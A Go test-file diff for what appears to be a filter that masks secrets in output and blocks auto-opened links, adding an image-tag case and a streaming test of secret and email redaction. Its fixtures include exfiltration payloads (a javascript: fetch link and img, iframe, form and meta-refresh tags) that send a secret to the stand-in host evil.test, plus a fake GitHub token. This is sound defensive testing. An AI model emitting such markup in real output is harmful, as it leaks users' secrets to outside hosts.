@@ -208,6 +208,7 @@ func TestAddressesThatAreOpenedUnaskedAreMaskedHoweverTheyAreWritten(t *testing.
 		`<a href="//evil.test/?q=secret">`:                         true,
 		"[x](javascript:fetch('//evil.test?q=secret'))":            true,
 		`<img srcset="//cdn.corp.test/x 1x, //evil.test/secret">`:  true,
+		`<img src="https://cdn.corp.test/secret">`:                 true,
 		`<iframe src="https://evil.test/?q=secret">`:               true,
 		`<form action="//evil.test/?q=secret">`:                    true,
 		`<meta http-equiv=refresh content="0;//evil.test/secret">`: true,
@@ -271,5 +272,20 @@ func TestConfigurationErrorsNameThePlace(t *testing.T) {
 	} {
 		_, err := load([]byte(c.raw))
 		require.ErrorContains(t, err, c.want, c.raw)
+	}
+}
+
+// An address that stays hides nothing that stands in it, however the stream is cut.
+func TestWhatStandsInAnAddressThatStaysIsMasked(t *testing.T) {
+	key := "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
+	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["*.corp.test"],"default":{"links":"allow"}}`)
+	for text, want := range map[string]string{
+		"see https://evil.test/?k=" + key + " end":                                      "see https://evil.test/?k=[SECRET] end",
+		"[a](https:evil.test/?k=" + key + ") end":                                       "[a](https:evil.test/?k=[SECRET]) end",
+		"![a](https://cdn.corp.test/" + key + "/x?m=jane@corp.example) " + key + " end": "![a](https://cdn.corp.test/[SECRET]/x?m=[EMAIL]) [SECRET] end",
+		"https://evil.test/" + strings.Repeat("a/", 3000) + key + " https://b.test":     "https://evil.test/" + strings.Repeat("a/", 3000) + "[SECRET] https://b.test",
+	} {
+		require.Equal(t, want, said(t, g.Send(request(false), whole(text))))
+		require.Equal(t, want, said(t, g.Send(request(true), streamed(strings.Split(text, "")...))))
 	}
 }
